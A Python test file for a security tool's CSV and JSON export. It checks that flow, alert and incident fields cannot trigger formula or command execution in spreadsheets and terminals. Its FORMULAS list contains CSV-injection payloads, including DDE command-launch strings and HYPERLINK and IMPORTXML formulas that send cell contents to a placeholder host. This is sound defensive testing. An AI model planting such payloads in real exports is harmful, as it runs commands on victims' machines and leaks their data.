"""Rows as files: every field under its name, and nothing that a terminal or a spreadsheet would obey."""

from __future__ import annotations

import csv
import json
import math
from dataclasses import replace

import pytest

from engine import wire
from engine.sheet import csv_lines, harmless, json_lines
from engine.text import escape
from tests.aegis_tui import scenario
from tests.aegis_tui.widgets.test_safe import HOSTILE
from tests.engine.agent.report.hostile import HOSTILE as OF_REPORTS

FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://x/?"&A1,"ok")', "+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x/",A1),"//a")', "@A1",
    "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20A1", 'x";=1+1;"', "x;=1+1", "x,=1+1", 'x"=1+1', "x|=1+1",
    "x; +1", '","=1+1', '\',=1+1', "x\t=1+1", "\x00=1+1", "\u200b=1+1", '"=1+1"', "a;b;=DDE()",
]  # fmt: skip
EVERYTHING = list(dict.fromkeys([*HOSTILE, *OF_REPORTS, *FORMULAS]))
STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def test_the_corpus_has_200_strings() -> None:
    assert len(EVERYTHING) >= 200


@pytest.mark.parametrize("delimiter", list(",;\t|"), ids=["comma", "semicolon", "tab", "bar"])
def test_no_cell_begins_a_formula_in_any_locale(delimiter: str) -> None:
    flows = [scenario.flow(n, name=text, app=text, iface=text) for n, text in enumerate(EVERYTHING)]
    lines = list(csv_lines(flows))
    assert [line for line in lines if escape(line) != line] == []
    cells = [cell for row in csv.reader(lines, delimiter=delimiter) for cell in row]
    assert [cell for cell in cells if cell.lstrip(' "').startswith(STARTS)] == []


def test_each_row_is_one_line_with_as_many_cells_as_titles() -> None:
    flows = [scenario.flow(n, name=text) for n, text in enumerate(EVERYTHING)]
    lines = list(csv_lines(flows))
    assert len(lines) == len(flows) + 1
    assert len({len(row) for row in csv.reader(lines)}) == 1


def test_json_keeps_hostile_text_whole_and_ascii() -> None:
    flows = [scenario.flow(n, name=text) for n, text in enumerate(EVERYTHING)]
    lines = list(json_lines(flows))
    assert all(line.isascii() and line.isprintable() for line in lines)
    assert [json.loads(line)["name"] for line in lines] == EVERYTHING


def test_ordinary_text_and_numbers_stay_as_they_are() -> None:
    (row,) = csv.DictReader(csv_lines([scenario.flow(0, name="GET /größe a-b c=d")], {"1:flow0": 0.998}))
    assert (row["name"], row["packets.to_server"], row["score"]) == ("GET /größe a-b c=d", "6", "0.998")
    assert (row["five_tuple.src_ip"], row["handshake"]) == (scenario.ATTACKER, "true")


def test_times_are_read_by_people() -> None:
    block = scenario.block(remaining_s=math.inf, last_hit_at=0.0)
    (row,) = csv.DictReader(csv_lines([block]))
    assert (row["added_at"], row["last_hit_at"], row["remaining_s"]) == ("2025-10-09T08:43:17.000Z", "", "")


def test_a_time_that_no_calendar_has_stays_a_number() -> None:
    (row,) = csv.DictReader(csv_lines([scenario.flow(0, last_seen=1e300)]))
    assert row["last_seen"] == "1e+300"


def test_captured_bytes_are_left_to_evidence_packs() -> None:
    alert = scenario.alert()
    (row,) = csv.DictReader(csv_lines([alert]))
    assert not {"flow.head", "detection.excerpt"} & set(row)
    assert row["detection.label"] == "log4shell.jndi"


def test_lists_are_one_cell() -> None:
    (row,) = csv.DictReader(csv_lines([scenario.incident()]))
    assert row["attack_ids"] == "T1190 T1105"


def test_a_list_that_a_person_reads_is_asked_for_by_its_prefixes() -> None:
    (row,) = csv.DictReader(csv_lines([replace(scenario.proposal(), listed=None)]))
    assert row["terms.prefix"] == "203.0.113.9/32"


def test_a_harmless_text_is_not_touched() -> None:
    assert [harmless(text) for text in ("GET /", "a=b", "1:q+/=", "x-y")] == ["GET /", "a=b", "1:q+/=", "x-y"]


def test_an_alert_is_written_as_everywhere_else() -> None:
    assert list(json_lines([scenario.alert()])) == [wire.event_line(scenario.alert())]
